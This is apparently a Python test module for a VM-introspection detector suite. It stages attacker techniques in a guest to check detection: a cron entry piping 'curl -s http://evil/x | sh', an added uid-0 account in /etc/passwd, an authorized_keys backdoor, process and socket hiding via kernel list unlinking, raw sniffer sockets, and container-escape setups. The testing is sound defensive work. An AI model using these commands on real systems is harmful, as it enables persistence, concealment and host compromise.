"""Sockets, files and containers: rows for the codepacks of hidden sockets, persistence and escapes."""

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Final

from qvmi.codepacks.detectors.container_escape import ContainerEscape
from qvmi.codepacks.detectors.file_watch import FileWatch
from qvmi.codepacks.detectors.hidden_sockets import HiddenSockets
from qvmi.codepacks.detectors.persistence import Persistence
from qvmi.semantics.guest_os import Process
from tests.guests.guest_program import install
from tests.guests.tamper.mutation import Mutation
from tests.guests.tamper.scenario import Scenario, Shown, Sign, Way
from tests.guests.tamper.scene import Scene
from tests.guests.watched import POINTER, Watched, unlinked

__all__ = ["SYSTEM_ROWS"]

_BOX: Final = "/sys/fs/cgroup/docker/" + 16 * "4711"
_SNIFFS: Final = """
static void run(int count, char **words) {
    call(41, 17, 3, 0x0300, 0); /* socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) */
    call(41, 2, 3, 1, 0); /* socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) */
    for (;;)
        call(34, 0, 0, 0, 0); /* pause */
}
"""
_POISON: Final = POINTER.pack(0xDEAD000000000100) + POINTER.pack(0xDEAD000000000122)
"""What ``list_del`` leaves in an entry: include/linux/poison.h, with x86-64's POISON_POINTER_DELTA."""
_TABLES, _DESCRIPTORS = "tables of sockets", "files_struct.fdt"


# ------------------------------------------------------------------------------------------------ sockets


@contextmanager
def _nobodys(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    its = scene.its
    process = its.process("httpd")
    entry = process.address + its.member("task_struct", "tasks")
    with unlinked(its, entry), its.written(entry, _POISON):
        shown = scene.run("grep ' 0A ' /proc/net/tcp6; grep ' 0A ' /proc/net/tcp")
        [inode] = [line.split()[9] for line in shown.splitlines() if ":1F90 " in line]
        evidence = (
            Shown(_TABLES, facts={"inode": int(inode), "state": "LISTEN"}),
            Shown(_DESCRIPTORS, present=False),
            Shown("init_pid_ns.idr", address=process.address, facts={"pid": process.pid}),
        )
        claim = (
            ":8080 (LISTEN) is open, but no process that is seen has it:"
            f" process {process.pid} (httpd) has, which is off the task list"
        )
        yield (Sign(claim, evidence),)


@contextmanager
def _untabled(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    its = scene.its
    process = its.process("nc")
    [socket] = [one for one in its.machine.guest.sockets(process) if one.state == "LISTEN"]
    node = socket.address + its.member("sock", "__sk_common")
    node += its.member("sock_common", "skc_nulls_node")
    following, before = its.pointer(node), its.pointer(node + POINTER.size)
    with its.written(before, POINTER.pack(following)):
        assert scene.run("grep ':115C ' /proc/net/tcp /proc/net/tcp6; true") == ""
        evidence = (
            Shown(_DESCRIPTORS, address=socket.address, facts={"pid": process.pid}),
            Shown(_TABLES, present=False),
        )
        claim = f"of process {process.pid} (nc) is in no table: ss does not show it"
        yield (Sign(claim, evidence),)


@contextmanager
def _sniffer(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    install(scene.guest, "/run/sniffer", _SNIFFS)
    pid = scene.its.start("/run/sniffer")
    try:
        scene.its.process("sniffer", pid=pid)
        links = scene.run(f"cd /proc/{pid}/fd; readlink 3; readlink 4").split()
        inodes = [int(one.strip("socket:[]")) for one in links]
        claim = f"process {pid} (sniffer) has a {{}} socket, and may read or forge packets"
        yield tuple(
            Sign(
                claim.format(protocol),
                (Shown(_DESCRIPTORS, facts={"pid": pid, "fd": 3 + at, "inode": inodes[at]}),),
                "low",
            )
            for at, protocol in enumerate(("packet", "raw"))
        )
    finally:
        scene.run(f"kill -9 {pid}; rm /run/sniffer")


# -------------------------------------------------------------------------------------------- persistence


@contextmanager
def _made(scene: Scene, path: str, line: str, *, bad: str = "") -> Iterator[tuple[Sign, ...]]:
    # ctime counts whole seconds: the file must be younger than any that there was.
    scene.run("now=$(date +%s); until [ $(date +%s) != $now ]; do sleep 0.1; done")
    scene.run(f"mkdir -p {path.rpartition('/')[0]}; echo '{line}' >{path}")
    try:
        digest = scene.run(f"sha256sum {path}").split()[0]
        facts = {"path": path, "sha256": digest} | ({"text": bad} if bad else {})
        shown = Shown("page cache", facts=facts)
        yield (Sign(f"{path} was made", (shown,), "high" if bad else "medium"),)
    finally:
        scene.run(f"rm {path}")


@contextmanager
def _cron(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    line = "* * * * * root curl -s http://evil/x | sh"
    with _made(scene, "/etc/cron.d/evil", line, bad="curl -s http://evil/x | sh") as signs:
        yield signs


@contextmanager
def _keys(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    path = "/root/.ssh/authorized_keys"
    with _made(scene, path, "ssh-ed25519 AAAAC3 evil") as signs:
        yield signs


@contextmanager
def _account(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    before = scene.run("sha256sum /etc/passwd; cp /etc/passwd /run/passwd").split()[0]
    scene.run("echo evil:x:0:0::/:/bin/sh >>/etc/passwd")
    try:
        after = scene.run("sha256sum /etc/passwd").split()[0]
        evidence = (
            Shown("page cache before", facts={"sha256": before}),
            Shown("page cache", facts={"sha256": after}),
        )
        yield (Sign("/etc/passwd was changed", evidence, "medium"),)
    finally:
        scene.run("cat /run/passwd >/etc/passwd; rm /run/passwd")


# --------------------------------------------------------------------------------------- container escape


@contextmanager
def _in_a_box(its: Watched, command: str) -> Iterator[Process]:
    """This is a program in a container's cgroup and in a mount namespace of its own."""
    its.guest.run(f"mkdir -p {_BOX}")
    pid = its.start(f"unshare -m sh -c 'echo $$ >{_BOX}/cgroup.procs; exec {command}'")
    try:
        yield its.process("sleep", pid=pid)
    finally:
        its.guest.run(f"kill -9 {pid}")


@contextmanager
def _hosts_root(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    with _in_a_box(scene.its, "sleep 2995") as process:
        assert "rootfs / rootfs " in scene.run(f"cat /proc/{process.pid}/mounts")
        evidence = (
            Shown("task_struct.cgroups", facts={"pid": process.pid, "runtime": "docker"}),
            Shown("mnt_namespace", facts={"path": "/", "filesystem": "rootfs"}),
        )
        who = f"process {process.pid} (sleep) of the docker container 4711"
        yield (Sign(f"{who}47114711 sees the host's root file system", evidence),)


@contextmanager
def _hosts_memory(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    with _in_a_box(scene.its, "sleep 2994 3</proc/kcore") as process:
        assert "/proc/kcore" in scene.run(f"readlink /proc/{process.pid}/fd/3")
        facts = {"pid": process.pid, "fd": 3, "path": "/proc/kcore"}
        claim = "has /proc/kcore open, which is the host's"
        yield (Sign(claim, (Shown(_DESCRIPTORS, facts=facts),)),)


@contextmanager
def _release_agent(scene: Scene) -> Iterator[tuple[Sign, ...]]:
    place = "/run/cgroup/pids/release_agent"
    scene.run(f"echo /run/escape >{place}")
    try:
        assert scene.run(f"cat {place}") == "/run/escape\n"
        shown = Shown("cgroup_root", facts={"release_agent": "/run/escape"})
        claim = "the kernel runs /run/escape as root when a cgroup of hierarchy"
        yield (Sign(claim, (shown,)),)
    finally:
        scene.run(f"echo >{place}")


def _files() -> Persistence:
    return Persistence(files=FileWatch(every_s=0.0))


def _mutation(name: str, old: str, new: str) -> tuple[Mutation]:
    return (Mutation(f"codepacks.detectors.{name}", old, new),)


_INSIDE, _OUTSIDE = Way.INSIDE, Way.OUTSIDE
_NOT_MADE: Final = _mutation("persistence", "file.changed > (self", "file.changed < (self")

SYSTEM_ROWS: Final = (
    Scenario(
        *("a listening process is hidden, its socket is not", "hidden-sockets", "T1014"),
        *(_OUTSIDE, _nobodys, HiddenSockets),
        mutations=_mutation("hidden_sockets", "one.pid is None and", "one.pid == 0 and"),
    ),
    Scenario(
        *("a listening socket is taken out of the kernel's table", "hidden-sockets", "T1014"),
        *(_OUTSIDE, _untabled, HiddenSockets),
        mutations=_mutation("hidden_sockets", "address not in tabled", "address in tabled"),
    ),
    Scenario(
        *("a program opens a packet socket and a raw one", "hidden-sockets", "T1040"),
        *(_INSIDE, _sniffer, HiddenSockets),
        mutations=_mutation("hidden_sockets", "not in _RAW or", "in _RAW or"),
    ),
    Scenario(
        *("a cron table that downloads and runs is made", "persistence", "T1053.003"),
        *(_INSIDE, _cron, _files),
        learns=True,
        mutations=(
            *_NOT_MADE,
            *_mutation("persistence", "HIGH if bad is not None", "HIGH if bad is None"),
        ),
    ),
    Scenario(
        *("a key is put into authorized_keys", "persistence", "T1098.004"),
        *(_INSIDE, _keys, _files),
        learns=True,
        mutations=_NOT_MADE,
    ),
    Scenario(
        *("a second root is added to /etc/passwd", "persistence", "T1136.001"),
        *(_INSIDE, _account, _files),
        learns=True,
        mutations=_mutation(
            "persistence", "is not None and _differs", "is not None and not _differs"
        ),
    ),
    Scenario(
        *("a container sees the host's root file system", "container-escape", "T1611"),
        *(_INSIDE, _hosts_root, ContainerEscape),
        mutations=_mutation("container_escape", "root) == (root.", "root) != (root."),
    ),
    Scenario(
        *("a container has the host's memory open", "container-escape", "T1611"),
        *(_INSIDE, _hosts_memory, ContainerEscape),
        mutations=_mutation("container_escape", "path in _MEMORY", "path not in _MEMORY"),
    ),
    Scenario(
        *("a program is set for when a cgroup is left empty", "container-escape", "T1611"),
        *(_INSIDE, _release_agent, ContainerEscape),
        mutations=_mutation("container_escape", "if not hierarchy.rel", "if hierarchy.rel"),
    ),
)
